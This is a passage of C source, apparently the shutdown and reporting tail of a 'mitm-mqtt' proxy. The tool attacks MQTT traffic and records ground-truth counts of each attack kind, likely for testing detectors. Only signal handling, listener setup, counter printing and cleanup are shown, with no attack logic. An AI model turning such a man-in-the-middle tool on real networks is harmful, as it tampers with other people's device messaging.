    sigset_t mask;
    sigemptyset(&mask);
    sigaddset(&mask, SIGINT);
    sigaddset(&mask, SIGTERM);
    sigprocmask(SIG_BLOCK, &mask, NULL);
    px->sfd = signalfd(-1, &mask, SFD_CLOEXEC | SFD_NONBLOCK);
    signal(SIGPIPE, SIG_IGN);
    if (px->hist == NULL || px->sfd < 0 || resolve_upstream(px) != 0 ||
        mitm_truth_open(&px->truth, o->c.truth, "mqtt") != 0) {
        rc = 1;
    } else if (open_listener(px) != 0) {
        mitm_truth_close(&px->truth, NULL);
        rc = 1;
    } else {
        rc = run(px);
        cJSON *counters = counters_json(px);
        char *line = cJSON_PrintUnformatted(counters);
        if (!o->c.quiet && line != NULL)
            fprintf(stderr, "mitm-mqtt: stopped; counters %s\n", line);
        free(line);
        printf("mitm-mqtt: attacked");
        for (int k = 0; k < MITM_KIND_COUNT; k++)
            if (px->truth.attacks[k] > 0)
                printf(" %s=%llu", mitm_kind_name(k), (unsigned long long)px->truth.attacks[k]);
        printf(" readings=%llu connections=%llu\n", (unsigned long long)px->n.readings_up,
               (unsigned long long)px->n.connections);
        mitm_truth_close(&px->truth, counters);
    }
    if (px->up_ai)
        freeaddrinfo(px->up_ai);
    if (px->lfd >= 0)
        close(px->lfd);
    if (px->sfd >= 0)
        close(px->sfd);
    if (px->ep >= 0)
        close(px->ep);
    mitm_history_free(px->hist);
    free(px);
    return rc;
}
